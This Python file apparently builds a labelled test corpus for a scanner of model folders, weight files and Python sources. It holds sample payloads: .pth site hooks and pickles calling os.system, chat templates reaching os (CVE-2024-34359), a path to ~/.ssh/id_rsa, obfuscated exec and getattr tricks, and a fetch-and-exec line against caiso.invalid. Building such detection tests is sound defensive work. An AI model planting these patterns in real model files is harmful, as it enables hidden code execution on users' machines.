"""Code and configuration beside a model, and site hooks that share a model's extension."""

import json

from pickle_asm import SHELL, call, dump, system
from torch_files import state_dict, torch_zip
from weights import CHATML, CLASSES, piece, safetensors

WEIGHTS = safetensors({"a": piece(0, 16)}, bytes(16))
MODEL = b"import torch\nfrom torch import nn\n\n\nclass Net(nn.Module):\n    def forward(self, x):\n        return torch.relu(x)\n\n\ndef evaluate(model):\n    model.eval()\n    return model\n"
SHELL_MODEL = b"import os\n\nos.system('echo caiso')\n\n\nclass Net:\n    pass\n"


def build(corpus):
    hooks(corpus)
    folders(corpus)
    sources(corpus)


def hooks(corpus):
    index = {"metadata": {"total_size": 16}, "weight_map": {"a": "../../../home/user/.ssh/id_rsa"}}
    corpus.malicious("folder-weight-map", "folder", "the index of the weights names a file outside", {"model.safetensors.index.json": json.dumps(index).encode(), "model.safetensors": WEIGHTS})
    index = {"metadata": {"total_size": 16}, "weight_map": {"a": "model-00001-of-00001.safetensors"}}
    corpus.benign("folder-sharded", "folder", "weights in parts with their index", {"model.safetensors.index.json": json.dumps(index).encode(), "model-00001-of-00001.safetensors": WEIGHTS})
    corpus.benign("paths.pth", "site hook", "a path file of Python, paths only", b"# local packages\n/opt/packages\nvendor\n")
    corpus.malicious("hook.pth", "site hook", "a line that begins with import runs at every start of Python", b"import os; os.system('echo caiso')\n")
    corpus.malicious("hook-tab.pth", "site hook", "a tab follows import", b"vendor\nimport\tos; os.system('echo caiso')\n")
    corpus.malicious("hook-encoded.pth", "site hook", "the code is held in base64", b"import base64; exec(base64.b64decode('cHJpbnQoJ2NhaXNvJyk='))\n")
    corpus.malicious("hook-after-paths.pth", "site hook", "the hook comes after a thousand paths", b"/opt/packages\n" * 1000 + b"import os; os.popen('echo caiso')\n")
    corpus.suspicious("hook-plain-import.pth", "site hook", "a line imports a module of its own", b"import acme_bootstrap\n")
    corpus.malicious("weights.pth", "torch zip", "a torch file of this extension with a payload", torch_zip(state_dict({"h": call("os", "system", SHELL)})))
    corpus.benign("weights.pth", "torch zip", "a torch file of this extension", torch_zip(state_dict()))


def folders(corpus):
    def folder(kind, name, about, config=None, files=None, refs=()):
        settings = config or {"model_type": "bert", "architectures": ["BertModel"]}
        content = {"model.safetensors": WEIGHTS, "config.json": json.dumps(settings).encode(), **(files or {})}
        corpus.add(kind, name, "folder", about, content, refs)

    own = {"model_type": "acme", "auto_map": {"AutoModel": "modeling.Net"}}
    folder("benign", "folder-plain", "a model without code")
    folder("suspicious", "folder-auto-map", "the configuration asks for code beside the model", own, files={"modeling.py": MODEL})
    folder("suspicious", "folder-auto-map-missing", "the configuration asks for code that is not there", own)
    folder("malicious", "folder-auto-map-shell", "the code beside the model runs a shell", own, files={"modeling.py": SHELL_MODEL})
    folder("suspicious", "folder-auto-map-remote", "the configuration asks for code of another repository", {"model_type": "acme", "auto_map": {"AutoModel": "caiso-invalid/code--modeling.Net"}})
    folder("suspicious", "folder-trust-remote-code", "the configuration trusts remote code", {"model_type": "acme", "trust_remote_code": True})
    folder("suspicious", "folder-tokenizer-auto-map", "the tokenizer asks for code", None, files={"tokenizer_config.json": b'{"auto_map": {"AutoTokenizer": ["tokenization.Acme", null]}}', "tokenization.py": MODEL})
    folder("malicious", "folder-tokenizer-template", "the tokenizer's chat template walks to os", None, files={"tokenizer_config.json": json.dumps({"chat_template": CLASSES}).encode()}, refs=["CVE-2024-34359"])
    folder("malicious", "folder-template-list", "one of several chat templates walks to os", None, files={"tokenizer_config.json": json.dumps({"chat_template": [{"name": "default", "template": CHATML}, {"name": "rag", "template": CLASSES}]}).encode()}, refs=["CVE-2024-34359"])
    folder("malicious", "folder-template-file", "chat_template.jinja walks to os", None, files={"chat_template.jinja": CLASSES.encode()}, refs=["CVE-2024-34359"])
    folder("benign", "folder-template", "a real chat template", None, files={"tokenizer_config.json": json.dumps({"chat_template": CHATML, "model_max_length": 128}).encode()})
    folder("malicious", "folder-handler", "an inference handler runs a shell", None, files={"handler.py": b"import subprocess\n\n\nclass EndpointHandler:\n    def __init__(self, path=''):\n        subprocess.run('echo caiso', shell=True)\n"})
    folder("malicious", "folder-hydra", "a hydra configuration instantiates os.system", None, files={"config.yaml": b"model:\n  _target_: os.system\n  command: echo caiso\n"}, refs=["CVE-2025-23304"])
    folder("benign", "folder-hydra", "a hydra configuration instantiates a layer", None, files={"config.yaml": b"model:\n  _target_: torch.nn.Linear\n  in_features: 2\n  out_features: 2\n"})
    folder("malicious", "folder-yaml-object", "a YAML file builds a Python object", None, files={"params.yaml": b"hook: !!python/object/apply:os.system ['echo caiso']\n"})
    folder("malicious", "folder-second-file", "the safetensors file is fine, a pickle beside it is not", None, files={"pytorch_model.bin": torch_zip(state_dict({"h": call("os", "system", SHELL)}))})
    folder("malicious", "folder-hidden-file", "the payload is in a hidden file", None, files={".cache/state": system()})
    folder("malicious", "folder-optimizer", "the payload is in the optimizer's state", None, files={"optimizer.pt": torch_zip(state_dict({"h": call("builtins", "eval", "print('caiso')")})), "training_args.bin": dump({"a": 1})})
    folder("malicious", "folder-mlflow", "an MLflow folder whose Python model is a payload", None, files={"MLmodel": b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n", "python_model.pkl": system()})
    folder("suspicious", "folder-mlflow-loader", "an MLflow folder that loads a module of its own", None, files={"MLmodel": b"flavors:\n  python_function:\n    loader_module: acme_loader\n    code: code\n", "code/acme_loader.py": MODEL})
    folder("benign", "folder-mlflow", "an MLflow folder of scikit-learn", None, files={"MLmodel": b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n  sklearn:\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n", "model.pkl": dump({"coef": [1.0]}), "requirements.txt": b"scikit-learn==1.6.0\n"})
    folder("suspicious", "folder-requirements", "requirements fetch a package from an address", None, files={"requirements.txt": b"torch\n--extra-index-url https://caiso.invalid/simple\nacme @ https://caiso.invalid/acme.tar.gz\n"})
    folder("suspicious", "folder-secret", "a key is left beside the model", None, files={".env": b"AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\nAWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"})


def sources(corpus):
    corpus.benign("model.py", "python", "a model class without calls that reach outside", MODEL)
    corpus.benign("strings.py", "python", "the names stand in texts and comments only", b'# os.system("echo caiso")\nWORDS = ["eval", "exec", "__import__", "os.system"]\n"""subprocess.run is not used here."""\n')
    corpus.benign("variables.py", "python", "variables named eval, exec and system", b"eval = 0.5\nexec = [1, 2]\nsystem = {'loss': eval}\nprint(system['loss'] + exec[0])\n")
    cases = {
        "system": (b"import os\nos.system('echo caiso')\n", "a shell is run"),
        "alias": (b"import os as o\nrun = o.system\nrun('echo caiso')\n", "a shell is run by another name"),
        "from-import": (b"from subprocess import check_output as co\nco('echo caiso', shell=True)\n", "a process is started by an imported name"),
        "getattr": (b"import os\ngetattr(os, 'sys' + 'tem')('echo caiso')\n", "the name is put together"),
        "dunder-import": (b"__import__('os').system('echo caiso')\n", "a module is imported by a call"),
        "exec-encoded": (b"import base64\nexec(base64.b64decode('cHJpbnQoJ2NhaXNvJyk='))\n", "code is held in base64"),
        "eval": (b"eval(\"print('caiso')\")\n", "text is evaluated"),
        "pickle": (b"import pickle\nmodel = pickle.load(open('other.pkl', 'rb'))\n", "a pickle is loaded"),
        "socket": (b"import socket\ns = socket.socket()\ns.connect(('caiso.invalid', 80))\n", "a socket is connected"),
        "download-run": (b"import urllib.request\nexec(urllib.request.urlopen('https://caiso.invalid/x').read())\n", "code is fetched and run"),
        "ctypes": (b"import ctypes\nctypes.CDLL('libcaiso.so')\n", "a shared library is loaded"),
        "globals": (b"print.__self__.__dict__['eval'](\"print('caiso')\")\n", "builtins are reached through an attribute"),
        "continuation": (b"import os; os\\\n.system(\n'echo caiso')\n", "the call is spread over lines"),
        "utf7": (b"# -*- coding: utf-7 -*-\nimport os\nos.system+ACg-'echo caiso'+ACk-\n", "another encoding hides the call"),
    }
    for name, (code, about) in cases.items():
        kind = "suspicious" if name in ("pickle", "utf7", "globals") else "malicious"
        corpus.add(kind, f"source-{name}.py", "python", about, code)
